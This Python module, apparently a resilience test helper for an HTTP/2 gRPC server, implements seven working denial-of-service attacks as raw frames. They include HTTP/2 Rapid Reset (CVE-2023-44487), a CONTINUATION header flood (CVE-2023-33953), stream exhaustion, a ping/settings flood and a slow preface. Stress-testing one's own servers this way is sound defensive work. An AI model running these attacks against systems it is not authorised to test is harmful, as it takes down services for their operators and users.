"""What a hostile client of an HTTP/2 server does, byte by byte.

Each attack takes a connected socket (plain or TLS) and returns when it is done or when the server has had enough.
"""

import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MOST_IN_FRAME = 16384


def frame(kind, flags, stream, payload=b""):
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value, prefix):
    """An HPACK integer behind `prefix` bits that are not its own."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([value])
    out, value = bytearray([most]), value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def header(name, value):
    """A header that no table remembers."""
    return b"\0" + number(len(name), 7) + name + number(len(value), 7) + value


CALL = b"".join(header(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/grpc.health.v1.Health/Check"),
    (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers")))
EMPTY_MESSAGE = b"\0\0\0\0\0"


def send(connection, data):
    """False once the server does not listen any more."""
    try:
        connection.sendall(data)
        return True
    except OSError:
        return False


def send_all(connection, pieces, at_once=200):
    """Sends pieces, many in one call; how many went before the server had enough."""
    sent, batch = 0, []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == at_once:
            if not send(connection, b"".join(batch)):
                return sent
            sent, batch = sent + len(batch), []
    return sent + len(batch) if send(connection, b"".join(batch)) else sent


def greet(connection, acknowledge):
    """Opens HTTP/2; acknowledges the server's settings, or never does."""
    send(connection, PREFACE + frame(SETTINGS, 0, 0))
    if acknowledge:
        connection.settimeout(2)
        try:
            connection.recv(4096)
        except OSError:
            pass
        send(connection, frame(SETTINGS, ACK, 0))


def streams_without_end(connection, count=20000):
    """Opens streams and neither ends them nor acknowledges the limit on them."""
    greet(connection, acknowledge=False)
    return send_all(connection, (frame(HEADERS, END_HEADERS, 2 * i + 1, CALL)
                                 for i in range(count)))


def rapid_reset(connection, count=30000):
    """Opens each stream only to reset it (CVE-2023-44487)."""
    greet(connection, acknowledge=True)
    return send_all(connection, (
        frame(HEADERS, END_HEADERS, 2 * i + 1, CALL) +
        frame(DATA, END_STREAM, 2 * i + 1, EMPTY_MESSAGE) +
        frame(RST_STREAM, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(count)))


def endless_header(connection, size=12 << 20):
    """One header value of many megabytes, in frames as small as allowed (CVE-2023-33953)."""
    greet(connection, acknowledge=True)
    start = CALL + b"\0" + number(7, 7) + b"x-large" + number(size, 7)
    if not send(connection, frame(HEADERS, 0, 1, start)):
        return 0
    return send_all(connection, (frame(CONTINUATION, 0, 1, b"a" * MOST_IN_FRAME)
                                 for _ in range(size // MOST_IN_FRAME)), at_once=4)


def many_continuations(connection, count=20000):
    """Headers that never end, each tiny."""
    greet(connection, acknowledge=True)
    if not send(connection, frame(HEADERS, 0, 1, CALL)):
        return 0
    return send_all(connection, (frame(CONTINUATION, 0, 1, header(b"x-%d" % i, b"y"))
                                 for i in range(count)))


def flood_of_pings(connection, count=50000):
    """Pings and settings that want answers nobody reads."""
    greet(connection, acknowledge=True)
    both = frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)
    return send_all(connection, (both for _ in range(count)))


def noise(connection, count=2000):
    """Bytes that are nothing at all."""
    return send_all(connection, (bytes((i * 7 + j) % 256 for j in range(256))
                                 for i in range(count)))


def byte_by_byte(connection, seconds=1.0):
    """An opening that takes its time."""
    end, sent = time.monotonic() + seconds, 0
    for byte in PREFACE * 1000:
        if time.monotonic() > end or not send(connection, bytes([byte])):
            break
        sent += 1
        time.sleep(0.02)
    return sent


ATTACKS = (streams_without_end, rapid_reset, endless_header, many_continuations, flood_of_pings,
           noise, byte_by_byte)


def connect(address):
    """A plain connection to HOST:PORT or unix:PATH."""
    if address.startswith("unix:"):
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(5)
        connection.connect(address.removeprefix("unix:"))
        return connection
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=5)
